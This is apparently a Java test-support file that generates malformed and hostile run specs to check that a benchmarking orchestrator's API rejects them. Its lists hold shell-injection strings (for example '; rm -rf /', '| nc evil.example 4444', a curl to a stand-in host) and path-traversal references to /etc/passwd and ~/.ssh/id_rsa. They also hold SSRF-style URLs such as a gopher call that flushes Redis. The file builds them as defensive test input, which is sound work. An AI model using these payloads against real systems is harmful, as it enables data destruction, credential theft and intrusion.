package dev.optbench.testsupport;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * A generated corpus of malformed and hostile run specs for {@code POST /api/runs}, every one of which the
 * orchestrator must refuse with a 4xx and a problem body: wrong types, missing fields, huge arrays, unicode tricks,
 * shell metacharacters, flags the worker owns, model refs that leave the models directory, negative and enormous
 * numbers, deep nesting, huge and malformed bodies, wrong content types. Each case starts from {@link #validSpec}
 * (which the orchestrator accepts) and breaks it in one way, so a case that is accepted points at one gap.
 */
public final class HostileRunSpecs {
    /** One request: what it tries, its Content-Type and its body. */
    public record Case(String category, String label, String contentType, byte[] body) {
        @Override
        public String toString() {
            return category + ": " + label;
        }
    }

    private static final String JSON = "application/json";
    private static final List<String> SHELL = List.of("; rm -rf /", "$(reboot)", "`id`", "| nc evil.example 4444", "&& curl http://evil.example",
            "> /etc/passwd", "\n--port 1", "' OR 1=1 --", "${IFS}cat${IFS}/etc/passwd", "x;y", "$HOME", "*", "4 --port 9999",
            "on --log-file /tmp/x", "a\u0000b", "%0a--host%200.0.0.0");
    private static final List<String> ESCAPING_REFS = List.of("../../etc/passwd", "/etc/passwd", "/work/models/tiny-llama-f16.gguf",
            "models/../../etc/passwd.gguf", "..", ".", "", " ", "~/.ssh/id_rsa", "C:\\Windows\\system.gguf", "file:///etc/passwd",
            "http://evil.example/x.gguf", "hf:../../x", "./tiny.gguf", "a//b.gguf", "a/./b.gguf", "%2e%2e/%2e%2e/etc/passwd.gguf",
            "..%2fetc%2fpasswd.gguf", "tiny.gguf/", "/dev/zero", "\\\\server\\share\\m.gguf", "synthetic:../../etc/passwd",
            "synthetic:TINY", "synthetic:", "tiny-llama-f16", "etc/passwd", "../tiny-llama-f16.gguf", "tiny-llama-f16.gguf\u0000.txt",
            "..\u2215..\u2215etc\u2215passwd.gguf", "\u202egguf.exe");
    private static final List<Object> ENORMOUS = List.of(raw("2147483648"), raw("-2147483649"), raw("9223372036854775808"),
            raw("1e308"), raw("-1e308"), raw("1e400"), raw("-1e400"), raw("123456789012345678901234567890"));

    private final List<Case> cases = new ArrayList<>();
    private final String pool;

    private HostileRunSpecs(String pool) {
        this.pool = pool;
    }

    /** A spec the orchestrator accepts: every case below is this spec broken in one way. */
    public static String validSpec(String pool, String name) {
        return write(base(pool, name));
    }

    /**
     * @param pool           the pool of the valid spec the cases derive from
     * @param forbiddenFlags every llama-server flag a spec may not set (contracts' {@code FlagPolicy.forbidden()} keys)
     */
    public static List<Case> corpus(String pool, Collection<String> forbiddenFlags) {
        HostileRunSpecs corpus = new HostileRunSpecs(pool);
        corpus.missingFields();
        corpus.wrongTypes();
        corpus.hugeSizes();
        corpus.unicode();
        corpus.shellMetacharacters();
        corpus.ownedFlags(forbiddenFlags);
        corpus.escapingPaths();
        corpus.numbers();
        corpus.nesting();
        corpus.hugeBodies();
        corpus.malformed();
        corpus.judgeEndpoints();
        return List.copyOf(corpus.cases);
    }

    private static Map<String, Object> base(String pool, String name) {
        return object("name", name, "pool", pool,
                "models", list(object("ref", "synthetic:tiny", "quantizations", list("F16", "Q8_0"), "prune", object("dropLayers", 1, "from", "end"))),
                "baseline", object("name", "Baseline", "flags", object("--threads", 1)),
                "variants", list(object("name", "v1", "flags", object("--ctx-size", 512, "--flash-attn", "on", "--cache-type-k", "q8_0"))),
                "sweep", object("name", "window", "base", object("--batch-size", 64), "axes", object("--keep", list(0, 4))),
                "workload", object("conversations", list(list("Hi", object("prompt", "2+2?", "reference", "4"))), "rounds", 2,
                        "repetitions", 1, "maxTokens", 4, "temperature", 0, "seed", 42, "concurrency", list(1)),
                "quality", object("judge", false, "perplexity", object("corpus", "builtin:sample-text")));
    }

    private void add(String category, String label, Consumer<Map<String, Object>> mutation) {
        Map<String, Object> spec = base(pool, "hostile");
        mutation.accept(spec);
        cases.add(new Case(category, label, JSON, write(spec).getBytes(StandardCharsets.UTF_8)));
    }

    private void set(String category, String path, Object value) {
        add(category, path + " = " + preview(value), spec -> put(spec, path, value));
    }

    private void body(String category, String label, String contentType, byte[] body) {
        cases.add(new Case(category, label, contentType, body));
    }

    private void missingFields() {
        for (String path : List.of("name", "pool", "models", "workload.conversations[0][1].prompt", "quality.perplexity.corpus", "sweep.axes",
                "models[0].ref", "models[0].prune.dropLayers", "variants[0].name")) {
            add("missing field", "without " + path, spec -> remove(spec, path));
        }
        set("missing field", "models", list());
        set("missing field", "variants[0]", object());
        set("missing field", "workload.conversations", list());
        set("missing field", "workload.conversations[0]", list());
        set("missing field", "models[0].quantizations", list());
        set("missing field", "sweep.axes", object());
        set("missing field", "sweep.axes.--keep", list());
        set("missing field", "workload.concurrency", list());
        set("missing field", "name", "   ");
        set("missing field", "name", null);
        set("missing field", "pool", null);
        set("missing field", "models", null);
    }

    private void wrongTypes() {
        List<Object> notText = List.of(123, -1, 1.5, true, false, list(), list("x"), object(), object("a", "b"));
        List<Object> notInteger = List.of("4", 4.5, true, list(), object(), "ten", raw("1e3"), list(4));
        List<Object> notList = List.of("x", 1, true, object());
        List<Object> notObject = List.of("x", 1, true, list(), list(object()));
        for (String path : List.of("name", "pool", "models[0].ref", "baseline.name", "variants[0].name", "sweep.name",
                "quality.perplexity.corpus", "models[0].quantizations[0]", "models[0].prune.from", "workload.conversations[0][1].prompt",
                "workload.conversations[0][1].reference")) {
            notText.forEach(value -> set("wrong type", path, value));
        }
        for (String path : List.of("workload.rounds", "workload.repetitions", "workload.maxTokens", "workload.seed", "workload.concurrency[0]",
                "models[0].prune.dropLayers")) {
            notInteger.forEach(value -> set("wrong type", path, value));
        }
        for (Object value : List.of("0.5", true, list(), object(), "hot")) {
            set("wrong type", "workload.temperature", value);
        }
        for (Object value : List.of("true", 1, 0, "yes", list(), object())) {
            set("wrong type", "quality.judge", value);
        }
        for (String path : List.of("models", "variants", "models[0].quantizations", "workload.conversations", "workload.conversations[0]",
                "workload.concurrency", "sweep.axes.--keep")) {
            notList.forEach(value -> set("wrong type", path, value));
        }
        for (String path : List.of("baseline", "baseline.flags", "variants[0]", "variants[0].flags", "sweep", "sweep.base", "sweep.axes",
                "workload", "quality", "quality.perplexity", "models[0].prune")) {
            notObject.forEach(value -> set("wrong type", path, value));
        }
        for (Object value : List.of(1, true, list(), list("Hi"))) {
            set("wrong type", "workload.conversations[0][0]", value);
        }
        Map<String, List<Object>> flagValues = new LinkedHashMap<>();
        flagValues.put("--threads", List.of("four", true, false, list(4), object("n", 4), 2.5, ""));
        flagValues.put("--flash-attn", List.of(5, list("on"), object(), "yes", ""));
        flagValues.put("--no-mmap", List.of("yes", 1, false, list(), "on"));
        flagValues.put("--cache-type-k", List.of(list("f16"), object(), 16, true, "F16X"));
        flagValues.put("--ctx-size", java.util.Arrays.asList(512.5, "512k", list(512), null, true));
        flagValues.forEach((flag, values) -> values.forEach(value -> set("wrong type", "variants[0].flags." + flag, value)));
    }

    private void hugeSizes() {
        add("huge array", "301 variants", spec -> put(spec, "variants", repeat(301, i -> object("name", "v" + i, "flags", object()))));
        add("huge array", "10000 variants", spec -> put(spec, "variants", repeat(10_000, i -> object("name", "v" + i))));
        add("huge array", "9 models", spec -> put(spec, "models", repeat(9, i -> "m" + i + ".gguf")));
        add("huge array", "10000 models", spec -> put(spec, "models", repeat(10_000, i -> "synthetic:tiny")));
        add("huge array", "13 quantizations", spec -> put(spec, "models[0].quantizations",
                list("F16", "Q8_0", "Q4_0", "Q4_1", "Q5_0", "Q5_1", "Q2_K", "Q3_K_S", "Q3_K_M", "Q4_K_S", "Q4_K_M", "Q5_K_S", "Q6_K")));
        add("huge array", "5000 quantizations", spec -> put(spec, "models[0].quantizations", repeat(5000, i -> "Q4_0")));
        add("huge array", "9 concurrency levels", spec -> put(spec, "workload.concurrency", repeat(9, i -> i + 1)));
        add("huge array", "100000 concurrency levels", spec -> put(spec, "workload.concurrency", repeat(100_000, i -> i + 1)));
        add("huge array", "1001 conversations", spec -> put(spec, "workload.conversations", repeat(1001, i -> list("Hi " + i))));
        add("huge array", "100000 conversations", spec -> put(spec, "workload.conversations", repeat(100_000, i -> list("x"))));
        add("huge array", "a conversation of 65 turns", spec -> put(spec, "workload.conversations[0]", repeat(65, i -> "turn " + i)));
        add("huge array", "a prompt of 100001 characters", spec -> put(spec, "workload.conversations[0][0]", "x".repeat(100_001)));
        add("huge array", "prompts of 270000 characters", spec -> put(spec, "workload.conversations",
                repeat(3, i -> list("y".repeat(90_000)))));
        add("huge array", "a sweep of 17 x 17 points", spec -> put(spec, "sweep.axes", object("--keep", repeat(17, i -> i), "--ctx-size",
                repeat(17, i -> 256 + i))));
        String[] eight = {"--threads", "--threads-batch", "--ctx-size", "--n-predict", "--batch-size", "--ubatch-size", "--keep", "--n-cpu-moe"};
        add("huge array", "a sweep of 256^8 points (2^64 wraps a long to 0)", spec -> {
            Map<String, Object> axes = object();
            for (String flag : eight) {
                axes.put(flag, repeat(256, i -> i + 1));
            }
            put(spec, "sweep.base", object());
            put(spec, "sweep.axes", axes);
        });
        add("huge array", "an axis of 100000 values", spec -> put(spec, "sweep.axes.--keep", repeat(100_000, i -> i % 1000)));
        add("huge array", "65 flags in one variant", spec -> {
            Map<String, Object> flags = object();
            for (int i = 0; i < 65; i++) {
                flags.put("--flag-" + i, i);
            }
            put(spec, "variants[0].flags", flags);
        });
        set("huge array", "name", "n".repeat(201));
        set("huge array", "name", "n".repeat(100_000));
        set("huge array", "pool", "p".repeat(101));
        set("huge array", "models[0].ref", "m".repeat(251) + ".gguf");
        set("huge array", "variants[0].flags.--device", "d".repeat(257));
        set("huge array", "variants[0].flags.--override-tensor", "a".repeat(5000) + "=CPU");
        set("huge array", "models[0].prune.dropLayers", 1025);
        set("huge array", "quality.perplexity.corpus", "c".repeat(5000) + ".txt");
    }

    private void unicode() {
        for (String value : List.of("cpu\u200b", "\uff43\uff50\uff55", "cpu\u202e", "\u043f\u0440\u043e\u0446", "cpu\ud83d\ude00", "\u0000cpu",
                "c\u0301pu", "cpu\u00a0")) {
            set("unicode", "pool", value);
        }
        for (String flag : List.of("\u2212\u2212threads", "\u2013threads", "\u2014port", "--thr\u200beads", "--\uff50\uff4f\uff52\uff54",
                "--port\u0000", "--threads\u00a0", "\u00ad--threads", "--\u0074hreads\u0301")) {
            set("unicode", "variants[0].flags." + flag, 1);
        }
        for (String ref : List.of("tiny\u202egguf.exe", "\u043c\u043e\u0434.gguf", "\uff54\uff49\uff4e\uff59.gguf", "tiny.gguf\u200b",
                "tiny\u2024gguf", "t\u0131ny.gguf")) {
            set("unicode", "models[0].ref", ref);
        }
        for (String name : List.of("\u0000", "bell\u0007", "tab\tname", "line\nbreak", "csi\u009b", "\ud800", "\udfff", "x\ud83d", "\ude00x",
                "esc\u001b[31m")) {
            set("unicode", "name", name);
            set("unicode", "variants[0].name", name);
        }
        for (String prompt : List.of("nul\u0000here", "\ud800", "x\udc00y")) {
            set("unicode", "workload.conversations[0][0]", prompt);
            set("unicode", "workload.conversations[0][1].reference", prompt);
        }
        set("unicode", "variants[0].flags.--flash-attn", "on\u200b");
        set("unicode", "variants[0].flags.--flash-attn", "\uff4f\uff4e");
        set("unicode", "variants[0].flags.--cache-type-k", "q8\u20800");
        set("unicode", "models[0].quantizations[0]", "Q4_0\u200b");
        set("unicode", "models[0].quantizations[0]", "\uff31\uff14\uff3f\uff10");
        set("unicode", "quality.perplexity.corpus", "builtin:sample-text\u200b");
        set("unicode", "quality.perplexity.corpus", "\uff42uiltin:sample-text");
        add("unicode", "unknown field n\u00e4m\u00e9", spec -> spec.put("n\u00e4m\u00e9", "x"));
        add("unicode", "a key that differs from name by a zero-width joiner", spec -> spec.put("na\u200dme", "x"));
    }

    private void shellMetacharacters() {
        for (String value : SHELL) {
            set("shell", "pool", "cpu" + value);
            set("shell", "variants[0].flags.--threads", "4" + value);
            set("shell", "variants[0].flags.--cache-type-k", "q8_0" + value);
            set("shell", "variants[0].flags.--device", "CPU" + value);
            set("shell", "variants[0].flags.--override-tensor", value);
            set("shell", "variants[0].flags.--flash-attn", "on" + value);
            set("shell", "models[0].ref", "tiny-llama-f16.gguf" + value);
            set("shell", "quality.perplexity.corpus", "corpus.txt" + value);
            set("shell", "models[0].quantizations[0]", "Q4_0" + value);
            set("shell", "variants[0].flags.--threads" + value, 4);
            set("shell", "sweep.axes.--keep" + value, list(1, 2));
            set("shell", "sweep.axes.--keep", list(0, "4" + value));
        }
    }

    private void ownedFlags(Collection<String> forbiddenFlags) {
        for (String flag : forbiddenFlags.stream().sorted().toList()) {
            Object value = switch (flag) {
                case "--host" -> "0.0.0.0";
                case "--port" -> 8080;
                case "--log-file", "--slot-save-path", "--log-prompts-dir" -> "/tmp/optbench-hostile";
                case "--tools" -> "all";
                case "--model", "-m", "--lora", "--mmproj" -> "/etc/passwd";
                default -> null;
            };
            set("owned flag", "baseline.flags." + flag, value);
            set("owned flag", "variants[0].flags." + flag, value);
            set("owned flag", "sweep.base." + flag, value);
            set("owned flag", "sweep.axes." + flag, list(value == null ? "x" : value));
        }
        for (String spelling : List.of("--PORT", "--Host", "--port=8080", " --port", "--port ", "-port", "---port", "--host\t", "port", "host",
                "--log_file", "--tools=all", "--log-file=/tmp/x", "-h0st", "--api-key-file ")) {
            set("owned flag", "variants[0].flags." + spelling, 8080);
        }
    }

    private void escapingPaths() {
        for (String ref : ESCAPING_REFS) {
            add("path", "models[0] = " + preview(ref), spec -> put(spec, "models", list(ref)));
            set("path", "models[0].ref", ref);
            set("path", "variants[0].flags.--model-draft", ref);
        }
        for (String corpus : List.of("../../etc/passwd", "/etc/passwd", "../corpus.txt", "a/../../b.txt", "/tmp/corpus.txt", "~/corpus.txt",
                "corpus.txt/..", "builtin:../../etc/passwd", "builtin:nope", "file:///etc/passwd", "corpus.gguf", "")) {
            set("path", "quality.perplexity.corpus", corpus);
        }
        set("path", "workload.prompts", "../../etc/passwd");
        add("path", "workload.prompts = /etc/passwd without conversations", spec -> {
            remove(spec, "workload.conversations");
            put(spec, "workload.prompts", "/etc/passwd");
        });
        add("path", "workload.prompts = builtin:../../etc/passwd", spec -> {
            remove(spec, "workload.conversations");
            put(spec, "workload.prompts", "builtin:../../etc/passwd");
        });
    }

    private void numbers() {
        Map<String, List<Object>> fields = new LinkedHashMap<>();
        fields.put("workload.rounds", List.of(0, -1, 65));
        fields.put("workload.repetitions", List.of(0, -5, 101));
        fields.put("workload.maxTokens", List.of(0, -1, 32769));
        fields.put("workload.seed", List.of(-2, raw("4294967296")));
        fields.put("workload.concurrency[0]", List.of(0, -1, 257));
        fields.put("models[0].prune.dropLayers", List.of(0, -1));
        fields.put("variants[0].flags.--threads", List.of(-2, 1025));
        fields.put("variants[0].flags.--ctx-size", List.of(-1, 1048577, raw("1e10")));
        fields.forEach((path, values) -> {
            values.forEach(value -> set("number", path, value));
            // A seed may be as large as 2^32 - 1, so 2^31 is not enormous for it.
            ENORMOUS.stream().filter(value -> !(path.equals("workload.seed") && value.equals(raw("2147483648"))))
                    .forEach(value -> set("number", path, value));
        });
        for (Object value : List.of(-0.1, 5.01, raw("1e308"), raw("-1e400"), raw("1e400"))) {
            set("number", "workload.temperature", value);
        }
        set("number", "sweep.axes.--keep", list(-5, raw("1e400")));
        set("number", "sweep.axes.--keep", list(raw("-1e999")));
        set("number", "variants[0].flags.--threads", raw("0." + "0".repeat(990) + "1"));
        set("number", "variants[0].flags.--ctx-size", raw("1" + "0".repeat(1200)));
    }

    private void nesting() {
        set("nesting", "variants[0].flags.--threads", nested(2000));
        set("nesting", "variants[0].flags.--threads", nested(900));
        set("nesting", "unknownField", nested(990));
        set("nesting", "workload.conversations", deepList(3000));
        set("nesting", "sweep.axes.--keep", list(nested(500)));
        set("nesting", "quality.perplexity", nested(1500));
        body("nesting", "100000 opening brackets", JSON, "[".repeat(100_000).getBytes(StandardCharsets.UTF_8));
        body("nesting", "50000 nested objects", JSON, ("{\"a\":".repeat(50_000) + "1" + "}".repeat(50_000)).getBytes(StandardCharsets.UTF_8));
        body("nesting", "a spec inside 1001 arrays", JSON, ("[".repeat(1001) + validSpec(pool, "nested") + "]".repeat(1001))
                .getBytes(StandardCharsets.UTF_8));
    }

    private void hugeBodies() {
        int overLimit = 10_240 * 1024 + 1024;
        add("huge body", "an 11 MB name", spec -> put(spec, "name", "n".repeat(overLimit)));
        body("huge body", "11 MB of spaces", JSON, " ".repeat(overLimit).getBytes(StandardCharsets.UTF_8));
        add("huge body", "a 9 MB prompt", spec -> put(spec, "workload.conversations[0][0]", "p".repeat(9_000_000)));
        add("huge body", "a 5 MB unknown field", spec -> put(spec, "unknownField", "u".repeat(5_000_000)));
        add("huge body", "50000 unknown fields", spec -> {
            for (int i = 0; i < 50_000; i++) {
                spec.put("field" + i, i);
            }
        });
        add("huge body", "200000 variants", spec -> put(spec, "variants", repeat(200_000, i -> object("name", "v"))));
    }

    private void malformed() {
        String valid = validSpec(pool, "malformed");
        for (String text : List.of("", " ", "null", "true", "1", "\"spec\"", "[]", "[{}]", "{", "}", "{\"name\": }", "{'name': 'x'}",
                "{\"name\": \"x\",}", valid + " garbage", valid + valid, "{\"name\": NaN}", "{\"name\": Infinity}", "{/*c*/\"name\": \"x\"}",
                "{\"name\": \"x\" \"pool\": \"cpu\"}", "{\"name\": \"a\", \"name\": \"b\", \"pool\": \"cpu\", \"models\": [\"synthetic:tiny\"]}",
                "\ufeff{\"name\": 1}", "{\"name\": \"\\x41\"}", "{\"name\": \"\\u12\"}", "{\"name\": \"unterminated}", "{\"name\":\u0000\"x\"}",
                "\u0000", "<run name=\"x\"/>", "name=x&pool=cpu", "{\"name\" \"x\"}", "{1: 2}")) {
            body("malformed JSON", preview(text), JSON, text.getBytes(StandardCharsets.UTF_8));
        }
        for (int cut : List.of(1, 17, 64, 128, 200, 300, 400, valid.length() - 2, valid.length() - 1)) {
            int at = Math.min(cut, valid.length() - 1);
            body("malformed JSON", "cut after " + at + " characters", JSON, valid.substring(0, at).getBytes(StandardCharsets.UTF_8));
        }
        String[] aroundPool = validSpec("POOL-MARK", "malformed").split("POOL-MARK");
        body("malformed JSON", "invalid UTF-8 in the pool", JSON, concat(aroundPool[0] + "cpu", new byte[] {(byte) 0xff, (byte) 0xfe}, aroundPool[1]));
        byte[] latin1 = ("{\"name\": \"caf\u00e9\", \"pool\": \"c\u00e9pu\"}").getBytes(StandardCharsets.ISO_8859_1);
        body("malformed JSON", "Latin-1 bytes", JSON, latin1);
        body("malformed JSON", "UTF-16 body", JSON, valid.getBytes(StandardCharsets.UTF_16));
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                "image/png", "application/javascript", "application/octet-stream")) {
            body("content type", type, type, valid.getBytes(StandardCharsets.UTF_8));
        }
    }

    private void judgeEndpoints() {
        for (Object judge : List.of(object("provider", "bash", "baseUrl", "http://127.0.0.1:11434", "model", "m"),
                object("provider", "", "baseUrl", "http://127.0.0.1:11434", "model", "m"),
                object("provider", "OLLAMA", "baseUrl", "http://127.0.0.1:11434", "model", "m"),
                object("provider", "ollama", "baseUrl", "file:///etc/passwd", "model", "m"),
                object("provider", "ollama", "baseUrl", "javascript:alert(1)", "model", "m"),
                object("provider", "ollama", "baseUrl", "gopher://127.0.0.1:6379/_FLUSHALL", "model", "m"),
                object("provider", "ollama", "baseUrl", "ftp://x", "model", "m"),
                object("provider", "ollama", "baseUrl", "http://", "model", "m"),
                object("provider", "ollama", "baseUrl", "not a url", "model", "m"),
                object("provider", "ollama", "baseUrl", "//evil.example", "model", "m"),
                object("provider", "ollama", "baseUrl", "http://127.0.0.1:11434", "model", ""),
                object("provider", "ollama", "baseUrl", "http://127.0.0.1:11434", "model", "m".repeat(201)),
                object("provider", "ollama", "baseUrl", "http://127.0.0.1:11434", "model", "m\u0000"),
                object("provider", "ollama", "baseUrl", "http://127.0.0.1:11434"),
                object("provider", "ollama", "baseUrl", "http://127.0.0.1:11434", "model", "m", "apiKey", "stolen"))) {
            set("judge endpoint", "quality.judgeModel", judge);
        }
    }

    // ---- the spec as a tree of maps and lists, and a JSON writer that can also write what JSON cannot express

    /** A JSON fragment written as it is: numbers beyond a double, nesting built as text. */
    private record Raw(String json) {
    }

    private static Raw raw(String json) {
        return new Raw(json);
    }

    private static Raw nested(int depth) {
        return raw("{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
    }

    private static Raw deepList(int depth) {
        return raw("[".repeat(depth) + "\"x\"" + "]".repeat(depth));
    }

    private static Map<String, Object> object(Object... keysAndValues) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put((String) keysAndValues[i], keysAndValues[i + 1]);
        }
        return map;
    }

    private static List<Object> list(Object... values) {
        List<Object> list = new ArrayList<>();
        java.util.Collections.addAll(list, values);
        return list;
    }

    private static List<Object> repeat(int count, java.util.function.IntFunction<Object> element) {
        List<Object> list = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            list.add(element.apply(i));
        }
        return list;
    }

    private static final Pattern STEP = Pattern.compile("([^.\\[]*)((?:\\[\\d+])*)");

    /** Sets a value by path ({@code variants[0].flags.--threads}); a flag name may hold dots only after the flags step. */
    private static void put(Map<String, Object> spec, String path, Object value) {
        Object parent = spec;
        List<Object> steps = steps(path);
        for (int i = 0; i < steps.size() - 1; i++) {
            parent = child(parent, steps.get(i));
        }
        Object last = steps.getLast();
        if (last instanceof Integer index) {
            @SuppressWarnings("unchecked")
            List<Object> list = (List<Object>) parent;
            list.set(index, value);
        } else {
            @SuppressWarnings("unchecked")
            Map<String, Object> map = (Map<String, Object>) parent;
            map.put((String) last, value);
        }
    }

    private static void remove(Map<String, Object> spec, String path) {
        Object parent = spec;
        List<Object> steps = steps(path);
        for (int i = 0; i < steps.size() - 1; i++) {
            parent = child(parent, steps.get(i));
        }
        if (parent instanceof Map<?, ?> map) {
            map.remove(steps.getLast());
        } else {
            ((List<?>) parent).remove((int) (Integer) steps.getLast());
        }
    }

    private static Object child(Object parent, Object step) {
        return step instanceof Integer index ? ((List<?>) parent).get(index) : ((Map<?, ?>) parent).get(step);
    }

    /** Field names and list indices; everything after "flags.", "base." or "axes." is one flag name, dots and all. */
    private static List<Object> steps(String path) {
        List<Object> steps = new ArrayList<>();
        String rest = path;
        while (!rest.isEmpty()) {
            boolean flagNext = !steps.isEmpty() && List.of("flags", "base", "axes").contains(steps.getLast());
            if (flagNext) {
                steps.add(rest);
                break;
            }
            Matcher step = STEP.matcher(rest);
            if (!step.lookingAt()) {
                throw new IllegalArgumentException("bad path " + path);
            }
            if (!step.group(1).isEmpty()) {
                steps.add(step.group(1));
            }
            Matcher index = Pattern.compile("\\[(\\d+)]").matcher(step.group(2));
            while (index.find()) {
                steps.add(Integer.parseInt(index.group(1)));
            }
            rest = rest.substring(step.end());
            if (rest.startsWith(".")) {
                rest = rest.substring(1);
            } else if (!rest.isEmpty()) {
                throw new IllegalArgumentException("bad path " + path);
            }
        }
        return steps;
    }

    private static String write(Object value) {
        StringBuilder out = new StringBuilder();
        write(value, out);
        return out.toString();
    }

    private static void write(Object value, StringBuilder out) {
        switch (value) {
            case null -> out.append("null");
            case Raw raw -> out.append(raw.json());
            case String text -> string(text, out);
            case Number number -> out.append(number);
            case Boolean bool -> out.append(bool);
            case Map<?, ?> map -> {
                out.append('{');
                boolean first = true;
                for (Map.Entry<?, ?> entry : map.entrySet()) {
                    out.append(first ? "" : ", ");
                    first = false;
                    string((String) entry.getKey(), out);
                    out.append(": ");
                    write(entry.getValue(), out);
                }
                out.append('}');
            }
            case List<?> list -> {
                out.append('[');
                for (int i = 0; i < list.size(); i++) {
                    out.append(i == 0 ? "" : ", ");
                    write(list.get(i), out);
                }
                out.append(']');
            }
            default -> throw new IllegalArgumentException("cannot write " + value.getClass());
        }
    }

    /** Escapes everything outside printable ASCII, so a lone surrogate reaches the parser as the escape JSON allows. */
    private static void string(String text, StringBuilder out) {
        out.append('"');
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || c > 0x7e) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        out.append('"');
    }

    private static String preview(Object value) {
        String text = value instanceof Raw raw ? raw.json() : value instanceof String s ? s : write(value);
        StringBuilder shown = new StringBuilder();
        for (int i = 0; i < text.length() && shown.length() < 60; i++) {
            char c = text.charAt(i);
            shown.append(c < 0x20 || c > 0x7e ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        }
        return text.length() > 60 ? shown + "… (" + text.length() + " chars)" : shown.toString();
    }

    private static byte[] concat(String head, byte[] middle, String tail) {
        byte[] first = head.getBytes(StandardCharsets.UTF_8);
        byte[] last = tail.getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[first.length + middle.length + last.length];
        System.arraycopy(first, 0, all, 0, first.length);
        System.arraycopy(middle, 0, all, first.length, middle.length);
        System.arraycopy(last, 0, all, first.length + middle.length, last.length);
        return all;
    }
}
